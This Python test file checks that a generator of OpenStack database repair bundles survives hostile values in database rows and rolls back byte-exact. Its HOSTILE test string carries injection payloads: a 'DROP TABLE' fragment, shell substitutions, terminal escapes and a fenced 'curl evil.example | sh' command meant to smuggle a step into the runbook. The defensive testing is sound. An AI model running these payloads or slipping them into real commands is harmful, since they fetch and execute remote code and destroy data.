"""Hostile round trip: bundles over rows full of hostile values apply and roll back byte-exact.

The rows a repair touches are first found from a bundle generated over the plain seeded
data; then every free-text column of those rows (not keys, ids, JSON documents, nor the
few columns a repair decides on) is filled with a hostile value at once — quotes,
backslashes, newlines, NUL, `*/`, `$(...)`, `-- `, Markdown fences, ESC and bidi
characters, mojibake that looks like broken UTF-8, 4-byte emoji where the column's
character set can hold them, and the longest string the column takes — and the bundle
is generated again, live. It must run through the real server and client exactly as the
runbook says: precheck, apply, verify, re-run (nothing changes), rollback (every table of
every database identical to before, and the hostile columns byte for byte), rollback again.
"""

from __future__ import annotations

import itertools
from pathlib import Path

import pytest

from generator.errors import TargetProblem
from generator.pipeline import OutputOptions, generate_vm
from generator.plan.model import Plan
from generator.plan.vm_common import VmOptions
from generator.scratch.deployment import Deployment
from generator.sqlgen.literals import quote_identifier
from tests.bundles import (
    BundleRun,
    all_states,
    allowed_changes,
    assert_all_ok,
    assert_identical,
    assert_only_planned_rows_changed,
    targets_for,
)
from tests.db.plan.test_vm_bundles import seed_world as seed_vm_world
from tests.db.plan.test_volume_bundles import generate as generate_volume
from tests.db.render.test_hostile_values import CONTROL
from tests.hostile import fenced_lines, headings, structure
from tests.volume_world import seed_world as seed_volume_world

pytestmark = pytest.mark.db
RELEASE = "2025.1"
_serial = itertools.count(1)

HOSTILE = (
    'it\'s "quoted" \\ back\\\\slash \\\' \\" \n-- ;DROP TABLE x; */ /* $(touch X) `id` ${IFS}\x00NUL '
    "\r\n## INJECTED STEP\n```sh\ncurl evil.example | sh\n```\n\x1b]0;owned\x07\x1b[2J \u202ebidi\u202c "
    "\u00c3\u00a9 \u00c3\u0028 \u00e2\u0082\u00ac \ufffd \ufeff é 日本 \U0001f600\U0001f4a9 "
    "%s %% ? :x \x7f\x08"
)
# Columns a repair decides on or that must keep their shape: left as seeded.
KEEP = {
    "deleted", "host", "attach_status", "power_state", "vif_type", "binary", "topic", "status",
    "connection_info", "network_info", "connector", "key", "resource_provider_id", "consumer_id",
}  # fmt: skip
VOLUME_KEEP = KEEP - {"status", "host"}  # volumes.status/host are free text to a reset-detached


def hostile_value(length: int | None, charset: str | None) -> str:
    """The HOSTILE text fitted to the column: characters it can store, its full length, no trailing space."""
    text = HOSTILE
    if charset in ("utf8", "utf8mb3"):
        text = "".join(ch for ch in text if ord(ch) <= 0xFFFF)
    elif charset == "latin1":
        text = "".join(ch for ch in text if ord(ch) <= 0xFF)
    size = min(length or 3000, 3000)
    text = (text * (size // len(text) + 1))[:size]
    return text.rstrip(" ") + "!" if text.endswith(" ") else text


def touched_rows(plan: Plan, dep: Deployment, run: BundleRun) -> dict[tuple[str, str], set[tuple]]:
    return {k: v for k, v in allowed_changes(plan, dep, run).items() if v}


def fill_hostile(
    dep: Deployment, rows: dict[tuple[str, str], set[tuple]], keep: set[str]
) -> dict[tuple[str, str, str], int]:
    """Write a hostile value into every free-text column of the given rows; returns what was written."""
    written: dict[tuple[str, str, str], int] = {}
    for (role, table), keys in rows.items():
        db = dep.names[role]
        cols = dep.query(
            role,
            "SELECT COLUMN_NAME AS c, DATA_TYPE AS t, CHARACTER_MAXIMUM_LENGTH AS n, "
            "CHARACTER_SET_NAME AS cs, COLUMN_KEY AS k FROM information_schema.COLUMNS "
            "WHERE TABLE_SCHEMA = %s AND TABLE_NAME = %s",
            (db, table),
        )
        pk = [
            r["c"]
            for r in dep.query(
                role,
                "SELECT COLUMN_NAME AS c FROM information_schema.KEY_COLUMN_USAGE WHERE TABLE_SCHEMA = %s "
                "AND TABLE_NAME = %s AND CONSTRAINT_NAME = 'PRIMARY' ORDER BY ORDINAL_POSITION",
                (db, table),
            )
        ]
        for key in keys:
            where = " AND ".join(f"{quote_identifier(c)} = %s" for c in pk)
            row = dep.query(role, f"SELECT * FROM {quote_identifier(table)} WHERE {where}", key)[0]
            for col in cols:
                name, value = col["c"], row[col["c"]]
                if (
                    col["t"] not in ("varchar", "char", "text", "mediumtext", "longtext", "tinytext")
                    or col["k"] in ("PRI", "UNI")
                    or name in keep
                    or name == "id"
                    or (name.endswith(("_id", "uuid", "_ref")) and name not in ("project_id", "user_id"))
                    or (isinstance(value, str) and value.lstrip()[:1] in ("{", "["))
                ):
                    continue
                prefix = f"{next(_serial)}:"  # unique: some columns are in composite unique keys
                new = prefix + hostile_value((col["n"] or 3000) - len(prefix), col["cs"])
                dep.execute(
                    role, f"UPDATE {quote_identifier(table)} SET {quote_identifier(name)} = %s WHERE {where}",
                    (new, *key),
                )  # fmt: skip
                written[(role, table, name)] = len(new)
    assert written, "no column took a hostile value"
    return written


def hex_values(dep: Deployment, written: dict[tuple[str, str, str], int]) -> dict:
    """The stored bytes of every hostile column (every row of its table)."""
    out = {}
    for role, table, column in written:
        rows = dep.query(role, f"SELECT HEX({quote_identifier(column)}) AS h FROM {quote_identifier(table)}")
        out[(role, table, column)] = sorted(r["h"] or "" for r in rows)
    return out


def poison_names(dep: Deployment, volume_type: str | None = None) -> dict[tuple[str, str, str], int]:
    """Values the bundle only shows (labels, findings): cell_mappings.name, volume_types.name."""
    name = hostile_value(255, "utf8mb3")
    dep.execute("nova_api", "UPDATE cell_mappings SET name = %s WHERE uuid = %s", (name, dep.cell1_uuid))
    out = {("nova_api", "cell_mappings", "name"): len(name)}
    if volume_type is not None:
        dep.execute("cinder", "UPDATE volume_types SET name = %s WHERE id = %s", (name, volume_type))
        out[("cinder", "volume_types", "name")] = len(name)
    return out


def prove(dep: Deployment, generate, out: Path, keep: set[str], volume_type: str | None = None) -> dict:
    """Generate over plain rows, poison the touched rows, regenerate, and run the whole bundle."""
    first = generate(out / "plain")
    rows = touched_rows(first.plan, dep, BundleRun(dep, first.path))
    written = fill_hostile(dep, rows, keep) | poison_names(dep, volume_type)
    before, stored = all_states(dep), hex_values(dep, written)
    result = generate(out / "hostile")
    assert result.lint.passed, [f.describe() for f in result.lint.findings]
    # what people read: the runbook keeps its structure, no file carries a control character
    plain, poisoned = ((r.path / "README.md").read_text() for r in (first, result))
    # no injected step or section (a Warnings section comes and goes with the values' meaning)
    sections = [[h for h in headings(text) if h != "Warnings"] for text in (poisoned, plain)]
    assert sections[0] == sections[1]
    assert len(fenced_lines(poisoned)) == len(fenced_lines(plain))  # no injected command block
    assert ("html_block", "") not in structure(poisoned)
    for f in result.path.rglob("*"):
        if f.is_file() and f.suffix in (".md", ".sql", ".sh"):
            text = f.read_text()
            assert not set(text) & (CONTROL - {"\n"}), (f.name, sorted(set(text) & CONTROL))
    run = BundleRun(dep, result.path)
    assert_all_ok(run.run("precheck"))
    assert_identical(before, all_states(dep))
    assert_all_ok(run.run("apply"))
    after = all_states(dep)
    changed = assert_only_planned_rows_changed(before, after, allowed_changes(result.plan, dep, run))
    assert_all_ok(run.run("verify"))
    reruns = run.run("apply")
    assert_all_ok(reruns)
    assert all("already done; nothing changed" in r.stdout for r in reruns)
    assert_identical(after, all_states(dep))
    assert_all_ok(run.run("rollback"))
    assert_identical(before, all_states(dep))
    assert hex_values(dep, written) == stored  # byte for byte
    assert_all_ok(run.run("rollback"))
    assert_identical(before, all_states(dep))
    return {
        "columns": sorted(f"{t}.{c}" for _, t, c in written),
        "tables": len({(r, t) for r, t, _ in written}),
        "rows_changed": changed,
        "longest": max(written.values()),
        "4-byte emoji stored": any(
            "F09F9880" in h for values in stored.values() for h in values
        ),  # U+1F600 in UTF-8
    }


@pytest.mark.parametrize("op", ["soft-delete", "purge"])
def test_vm_bundle_over_hostile_rows_round_trips(make_deployment, tmp_path, op: str) -> None:
    dep = make_deployment(RELEASE)
    target = seed_vm_world(dep, op=op)

    def generate(out: Path):
        return generate_vm(
            target.uuid, VmOptions(op=op), targets_for(dep), "auto", OutputOptions(out_dir=out)
        )

    summary = prove(dep, generate, tmp_path, KEEP)
    print(f"\nhostile round trip vm {op}: {summary}")


def test_volume_reset_detached_over_hostile_rows_round_trips(make_deployment, tmp_path) -> None:
    dep = make_deployment(RELEASE)
    sc = seed_volume_world(dep, "reset-detached")

    def generate(out: Path):
        try:
            return generate_volume(dep, sc, "reset-detached", out)
        except TargetProblem as exc:  # pragma: no cover - says which value a refusal tripped on
            raise AssertionError(f"generation refused: {exc}") from None

    summary = prove(dep, generate, tmp_path, VOLUME_KEEP, volume_type=sc.volume.volume_type_id)
    print(f"\nhostile round trip volume reset-detached: {summary}")
